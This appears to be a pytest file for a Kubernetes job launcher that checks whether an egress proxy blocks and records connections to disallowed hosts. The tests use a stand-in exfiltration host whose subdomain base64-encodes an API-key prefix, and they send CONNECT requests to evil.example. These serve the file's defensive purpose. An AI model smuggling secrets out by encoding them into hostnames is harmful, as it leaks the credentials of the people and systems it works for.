"""What a Job's way out refuses stands in its record: the proxy's stand-in logs as the real one."""

from __future__ import annotations

import asyncio
import json
import socket
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from functions.events.webhook import JobCancelRequested
from functions.job_launcher.kubernetes.egress import UNKNOWN
from knative.local.instance import free_port
from tests.support import eventually
from tests.support.cluster import Cluster
from tests.support.egress_standin import COMPONENT
from tests.support.job_world import PYTHON_ROUTES, World, asked, job_world, run_python

JOBS = "/apis/batch/v1/namespaces/agents/jobs"
# There is no name of the Service on a laptop; the port says the list.
ASK = """
import os, socket
from urllib.parse import urlsplit
for host in ({hosts}):
    with socket.create_connection(('127.0.0.1', urlsplit(os.environ['HTTPS_PROXY']).port)) as way:
        way.sendall(f'CONNECT {{host}}:443 HTTP/1.1\\r\\n\\r\\n'.encode())
        print(host, way.recv(100).decode().split()[1])
"""
LEAK = "c2stYW50LWFwaTAz.collector.evil.example"


@pytest.fixture
async def world(cluster: Cluster, functions_database: str, tmp_path: Path) -> AsyncIterator[World]:
    port = free_port()
    environ = {"EGRESS_PROXIES": f"code={port}"}
    async with job_world(cluster, functions_database, tmp_path, environ=environ) as world:
        await start_proxy(world, port)
        yield world


async def start_proxy(world: World, port: int) -> None:
    container = {
        "name": "squid",
        "image": "ubuntu/squid",
        "command": ["python", str(COMPONENT.parents[2] / "tests/support/egress_standin.py")],
        "args": [f"code={port}"],
    }
    pod = {"restartPolicy": "Never", "containers": [container]}
    labels = {"app.kubernetes.io/name": "egress-proxy"}
    job = {
        "metadata": {"name": "egress-proxy"},
        "spec": {"template": {"metadata": {"labels": labels}, "spec": pod}},
    }
    assert (await world.api.post(JOBS, json=job)).status_code == 201

    async def listens() -> bool:
        with socket.socket() as tried:
            return tried.connect_ex(("127.0.0.1", port)) == 0

    await eventually(listens)


def asks(*hosts: str, then: str = "", id: str = "e1", **data: Any) -> Any:
    return run_python(ASK.format(hosts="".join(f"{host!r}, " for host in hosts)) + then, id, **data)


async def test_what_was_refused_stands_in_the_record_and_the_event(world: World) -> None:
    await world.tell(asks("api.anthropic.com", LEAK, LEAK, "pypi.org"))
    await world.until("queued", "started", "succeeded")

    [job] = await world.jobs()
    assert "api.anthropic.com 200" in job["last_lines"]
    assert "pypi.org 403" in job["last_lines"]
    assert job["blocked"] == ["*.evil.example:443 (2 times)", "pypi.org:443"]
    [succeeded] = world.emitted("succeeded")
    assert succeeded["blocked"] == job["blocked"]
    assert "c2stYW50" not in json.dumps(succeeded)


async def test_it_stands_there_too_where_the_job_fails(world: World) -> None:
    await world.tell(asks("evil.example", then="raise SystemExit(3)"))
    await world.until("queued", "started", "failed")
    [failed] = world.emitted("failed")
    assert failed["blocked"] == ["evil.example:443"]


async def test_it_stands_there_too_where_a_job_is_cancelled_before_its_agent_starts(
    cluster: Cluster, functions_database: str, tmp_path: Path
) -> None:
    """Its workspace is not there yet, as nothing answers; all pods have one address here."""
    port = free_port()
    given = "      workspace: {repository: acme/shop}\n      outputs: {}\n      files:"
    routes = PYTHON_ROUTES.replace("      files:", given, 1)
    environ = {
        "EGRESS_PROXIES": f"code={port}",
        "WORKSPACE_IMAGE": "anthropic/claude-code",
        "GRANT_KEY": "k" * 40,
    }
    world_of = job_world(cluster, functions_database, tmp_path, routes=routes, environ=environ)
    async with world_of as world:
        await start_proxy(world, port)
        await world.tell(asked("e1"))

        async def prepares() -> bool:
            pods = (await world.api.get("/api/v1/namespaces/agents/pods")).json()["items"]
            inits = [one for pod in pods for one in pod["status"].get("initContainerStatuses", ())]
            return any(one["name"] == "workspace" and "running" in one["state"] for one in inits)

        await eventually(prepares)
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n")
        assert b"403" in await reader.readline()
        writer.close()
        await world.tell(JobCancelRequested(task_id="t"))
        await world.until("queued", "cancelled")
        [job] = await world.jobs()
        assert "evil.example:443" in job["blocked"]


async def test_a_log_that_cannot_be_read_is_not_taken_for_an_empty_one(
    cluster: Cluster, functions_database: str, tmp_path: Path
) -> None:
    environ = {"EGRESS_PROXIES": f"code={free_port()}"}
    async with job_world(cluster, functions_database, tmp_path, environ=environ) as world:
        await world.tell(run_python("print('nothing asked')", "e1"))
        await world.until("queued", "started", "succeeded")
        [job] = await world.jobs()
        assert job["blocked"] == [UNKNOWN]
